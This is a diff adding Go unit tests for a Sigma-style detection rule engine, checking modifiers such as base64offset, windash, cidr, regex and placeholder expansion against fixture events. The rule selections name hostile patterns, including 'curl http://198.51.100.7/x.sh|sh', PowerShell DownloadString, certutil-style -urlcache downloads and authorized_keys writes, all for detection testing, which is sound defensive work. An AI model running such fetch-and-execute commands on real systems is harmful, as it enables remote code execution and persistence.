@@ -0,0 +1,173 @@
+package rules
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+)
+
+const testdataDir = "../../testdata"
+
+type namedEvent struct {
+	Name   string     `json:"name"`
+	Fields fieldEvent `json:"fields"`
+}
+
+func modifierEvents(t *testing.T) []namedEvent {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join(testdataDir, "modifier_events.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var events []namedEvent
+	if err := json.Unmarshal(data, &events); err != nil {
+		t.Fatal(err)
+	}
+	return events
+}
+
+func TestModifiers(t *testing.T) {
+	events := modifierEvents(t)
+	for _, tc := range []struct {
+		name         string
+		selection    string
+		placeholders map[string][]string
+		want         string
+	}{
+		{"base64", `CommandLine|base64|contains: 'curl http://198.51.100.7/x.sh|sh'`, nil,
+			"base64-offset-0 base64-whole"},
+		{"base64offset", `CommandLine|base64offset|contains: curl`, nil,
+			"base64-offset-0 base64-offset-1 base64-offset-2 base64-whole"},
+		{"one-byte base64offset", `CommandLine|base64offset|contains: c`, nil,
+			"base64-offset-0 base64-offset-1 base64-offset-2 base64-other base64-whole powershell-enc"},
+		{"wide base64offset", `CommandLine|wide|base64offset|contains: DownloadString`, nil,
+			"powershell-enc"},
+		{"utf16le base64offset", `CommandLine|utf16le|base64offset|contains: New-Object`, nil,
+			"powershell-enc"},
+		{"utf16 needs the byte order mark", `CommandLine|utf16|base64offset|contains: DownloadString`, nil,
+			""},
+		{"windash", `CommandLine|windash|contains: ' -urlcache '`, nil,
+			"windash-dash windash-endash windash-slash"},
+		{"windash all", `CommandLine|windash|contains|all: [' -urlcache', ' -f ']`, nil,
+			"windash-dash windash-endash windash-slash"},
+		{"plain contains is unchanged", `CommandLine|contains: urlcache`, nil,
+			"windash-dash windash-endash windash-hyphenated windash-slash"},
+		{"cidr", `SourceIp|cidr: [10.0.0.0/8, 'fd00::/8']`, nil,
+			"ssh-internal ssh-ipv6"},
+		{"gte", `uid|gte: 1000`, nil,
+			"ssh-ipv6 ssh-no-ip ssh-public"},
+		{"lt", `uid|lt: '1000'`, nil,
+			"ssh-internal"},
+		{"exists", "CommandLine|contains: urlcache\n    SourceIp|exists: false", nil,
+			"windash-dash windash-endash windash-hyphenated windash-slash"},
+		{"fieldref", `TargetUser|fieldref: User`, nil,
+			"ssh-internal ssh-ipv6"},
+		{"fieldref startswith", `TargetUser|fieldref|startswith: User`, nil,
+			"ssh-internal ssh-ipv6 ssh-no-ip"},
+		{"re ignorecase", `CommandLine|re|i: '^curl '`, nil,
+			"regex-upper"},
+		{"re multiline", `CommandLine|re|m: '^wget '`, nil,
+			"regex-multiline"},
+		{"re dotall", `CommandLine|re|s: 'one.wget'`, nil,
+			"regex-multiline"},
+		{"cased", `CommandLine|cased|contains: CURL`, nil,
+			"regex-upper"},
+		{"contains is case-sensitive", `CommandLine|contains: Curl`, nil,
+			""},
+		{"windash ignores case", `CommandLine|windash|contains: ' -URLCache '`, nil,
+			"windash-dash windash-endash windash-slash"},
+		{"cased windash", `CommandLine|windash|cased|contains: ' -URLCache '`, nil,
+			""},
+		{"cased windash with the logged case", `CommandLine|windash|cased|contains: ' -urlcache '`, nil,
+			"windash-dash windash-endash windash-slash"},
+		{"expand ignores case", `TargetFilename|expand: '%home%/.SSH/Authorized_Keys'`, map[string][]string{"home": {"/root"}},
+			"authorized-keys-root"},
+		{"re ignorecase with mixed case", `CommandLine|re|i: 'cUrL -S'`, nil,
+			"regex-upper"},
+		{"expand", `TargetFilename|expand: '%home%/.ssh/authorized_keys'`, map[string][]string{"home": {"/root", "/home/*"}},
+			"authorized-keys-alice authorized-keys-root"},
+		{"expand without values", `TargetFilename|expand: '%home%/.ssh/authorized_keys'`, nil,
+			"authorized-keys-alice authorized-keys-root authorized-keys-svc"},
+		{"null", "SourceIp: null\n    uid|exists: true", nil,
+			"ssh-no-ip"},
+		{"two rewrites of one field", "CommandLine|windash|contains: ' -urlcache'\n    CommandLine|re: 'a\\.exe$'", nil,
+			"windash-dash windash-endash windash-slash"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			rule := "title: Modifier\nid: modifier\ndetection:\n  sel:\n    " + tc.selection + "\n  condition: sel\n"
+			if err := os.WriteFile(filepath.Join(dir, "rule.yml"), []byte(rule), 0600); err != nil {
+				t.Fatal(err)
+			}
+			s, err := Load(Config{Directory: []string{dir}, Placeholders: tc.placeholders})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if s.Ok != 1 {
+				t.Fatalf("rule did not load: %+v", s.Problems)
+			}
+			var matched []string
+			for _, e := range events {
+				if _, ok := s.Eval("test", e.Fields); ok {
+					matched = append(matched, e.Name)
+				}
+			}
+			sort.Strings(matched)
+			if got := strings.Join(matched, " "); got != tc.want {
+				t.Errorf("matched %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+func TestModifierErrors(t *testing.T) {
+	for name, selection := range map[string]string{
+		"re with base64":     `CommandLine|re|base64: x`,
+		"flags without re":   `CommandLine|contains|i: x`,
+		"invalid cidr":       `SourceIp|cidr: 10.0.0.0/33`,
+		"non-numeric gt":     `uid|gt: many`,
+		"non-boolean exists": `uid|exists: maybe`,
+		"wildcard in base64": `CommandLine|base64: 'curl*'`,
+		"cidr with windash":  `SourceIp|windash|cidr: 10.0.0.0/8`,
+		"empty base64offset": `CommandLine|base64offset|contains: ''`,
+	} {
+		s := loadRules(t, map[string]string{
+			"rule.yml": "title: Bad\ndetection:\n  sel:\n    " + selection + "\n  condition: sel\n",
+		})
+		if s.Failed != 1 || s.Problems[0].Unsupported {
+			t.Errorf("%s: expected the rule to fail, got ok=%d problems=%+v", name, s.Ok, s.Problems)
+		}
+	}
+}
+
+func TestBase64OffsetMatchesPySigma(t *testing.T) {
+	// The variants pySigma generates for "curl", in order.
+	got := appendEncoded(nil, "base64offset", []byte("curl"))
+	var vals []string
+	for _, v := range got {
+		b, _ := v.bytes()
+		vals = append(vals, string(b))
+	}
+	if want := "Y3Vyb N1cm jdXJs"; strings.Join(vals, " ") != want {
+		t.Errorf("base64offset(curl) = %q, want %q", strings.Join(vals, " "), want)
+	}
+}
+
+func TestLoadPlaceholders(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "placeholders.yml")
+	if err := os.WriteFile(path, []byte("admins:\n  - root\n  - admin*\nweb_root: /var/www\nports: 22\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	got, err := LoadPlaceholders(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, want := range map[string]string{"admins": "root,admin*", "web_root": "/var/www", "ports": "22"} {
+		if strings.Join(got[name], ",") != want {
+			t.Errorf("%s = %q, want %q", name, got[name], want)
+		}
+	}
+}